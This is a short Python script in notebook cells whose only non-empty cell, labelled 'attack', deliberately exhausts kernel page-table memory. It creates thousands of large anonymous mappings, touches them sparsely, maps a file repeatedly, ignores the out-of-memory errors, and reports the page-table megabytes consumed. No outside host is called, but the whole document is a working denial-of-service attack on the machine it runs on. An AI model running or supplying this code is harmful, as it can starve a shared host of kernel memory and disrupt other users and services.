# %% setup
# %% forward
# %% attack
import mmap
import os
import re
kept = []
descriptor = os.open("names.txt", os.O_RDONLY)
try:
    while len(kept) < 20_000:
        block = mmap.mmap(-1, 1 << 26, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)
        for place in range(0, 1 << 26, 1 << 21):
            block[place] = 1
        kept.append(block)
        for _ in range(16):
            there = mmap.mmap(descriptor, 0, prot=mmap.PROT_READ)
            there[0]
            kept.append(there)
except (OSError, MemoryError, ValueError) as error:
    pass
found = re.search(r"VmPTE:\s+(\d+)", open("/proc/self/status").read())
print("MB of tables", int(found[1]) >> 10 if found else 0)
kept.clear()
# %% backward
